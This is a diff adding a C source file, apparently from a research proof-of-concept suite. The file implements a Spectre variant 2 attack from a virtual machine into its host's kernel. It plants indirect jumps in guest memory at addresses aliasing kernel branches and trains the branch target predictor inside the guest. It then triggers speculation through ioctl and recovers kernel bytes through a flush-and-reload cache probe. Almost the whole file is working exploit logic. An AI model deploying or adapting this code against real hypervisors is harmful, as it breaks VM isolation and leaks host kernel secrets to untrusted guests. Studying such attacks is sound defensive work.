@@ -1,0 +1,105 @@
+/*
+ * Spectre, variant 2 (Kocher et al., 2019; Horn, 2018), from a virtual machine to its host's kernel:
+ * as spectre-v2, but the branch that trains the kernel's runs inside, in the guest's kernel, at the
+ * very same address. What the target predictor has learned there holds when the machine has been left.
+ */
+#include "attack.h"
+
+#include <sys/ioctl.h>
+
+#include "evict.h"
+#include "gadget.h"
+#include "machine.h"
+#include "secret.h"
+#include "train.h"
+
+enum {
+	NO_COMMAND = 0x5eed,	/* of no file */
+	IOCTL_IN_TABLE = 0x50,	/* offset in struct file_operations */
+	ATTEMPTS = 2,
+};
+
+static struct machine machine;
+static const uint8_t *array;
+static int file;
+
+/* Inside: branches, how many, where they are to lead, and the pages that they lie in. */
+static uint64_t branches[MOST_ADDRESSES], disclosure;
+static int count;
+static uint8_t pages[2 * MOST_ADDRESSES][CODE_PAGE] __attribute__((aligned(CODE_PAGE)));
+
+static void train_inside(void)
+{
+	for (int i = 0; i < count; i++)
+		train((const uint8_t *)branches[i], disclosure);
+}
+
+/* Has a byte inside at an address of the host's kernel. */
+static void place_byte(uint64_t address, uint8_t byte)
+{
+	static int used;
+	uint64_t *entry = machine_entry(&machine, address);
+
+	if (!*entry)
+		machine_map(&machine, address & -(uint64_t)CODE_PAGE, MACHINE_OFFSET(pages[used++]));
+	machine.memory[(*entry & entry_frame) + address % CODE_PAGE] = byte;
+}
+
+/* An indirect jump by %rax whose last byte is that of a branch of the kernel. */
+static void place_jump(int index, uint64_t last)
+{
+	place_byte(last - 1, 0xff);
+	place_byte(last, 0xe0);
+	IN_MACHINE(&machine, branches)[0][index] = last - 1;
+}
+
+static int read_byte(uint64_t address)
+{
+	const uint8_t *probe = array + SHARED_PROBE;
+
+	flush_probe(probe);
+	evict(options.slow + IOCTL_IN_TABLE, second_level_pages);
+	machine_run(&machine, train_inside);
+	leave_history(next_random());
+	ioctl(file, NO_COMMAND, address);
+	return reload_probe(probe);
+}
+
+/* As in spectre-v2: the first attempt may be spent on the walk for the secret's address. */
+static int sample(int index)
+{
+	int value = NOTHING;
+
+	if (options.service)
+		use_secret(index);
+	for (int i = 0; i < ATTEMPTS && value == NOTHING; i++)
+		value = read_byte(options.address + index);
+	return value;
+}
+
+int main(int argc, char **argv)
+{
+	int known_was_read = 0, pipes[2];
+
+	parse_options(argc, argv);
+	if (!options.address || !options.branches.count || !options.disclosures.count)
+		errx(2, "expected --address, --branch and --disclosure");
+	if (options.service)
+		open_secret();
+	array = map_gadget(options.gadget);
+	calibrate();
+	prepare_eviction();
+	if (pipe(pipes))
+		err(1, "pipe");
+	file = pipes[0];
+	count = options.branches.count;
+	machine_create(&machine);
+	for (int i = 0; i < count; i++)
+		place_jump(i, options.branches.at[i]);
+	for (int i = 0; i < options.disclosures.count && !known_was_read; i++) {
+		*IN_MACHINE(&machine, disclosure) = options.disclosures.at[i];
+		known_was_read = reads_known_byte(read_byte, array + SHARED_KNOWN);
+	}
+	recover(sample, patience_after(known_was_read), 1);
+	return 0;
+}
